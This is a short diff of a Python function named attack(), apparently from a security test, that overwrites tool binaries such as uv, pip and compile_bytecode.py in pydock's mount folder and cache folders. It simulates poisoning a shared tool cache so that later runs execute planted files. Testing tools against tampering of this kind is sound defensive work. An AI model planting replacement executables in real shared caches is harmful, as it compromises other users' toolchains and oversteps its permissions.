@@ -57,8 +57,8 @@ def attack() -> None:
                 file.write(new)
             os.chmod(path, mode)
     # What pydock itself mounts, and what other versions of it kept in the cache.
-    for folder in ("/pydock", "/pydock/uv/x86_64", "/root/.cache/pydock/x86_64/bin"):
-        for name in ("uv", "pip", "compile_bytecode.py"):
+    for folder in ("/pydock", "/root/.cache/pydock/x86_64/bin"):
+        for name in ("uv", "uv-x86_64", "pip", "compile_bytecode.py"):
             try:
                 os.makedirs(folder, exist_ok=True)
                 with open(f"{folder}/{name}", "w") as file:
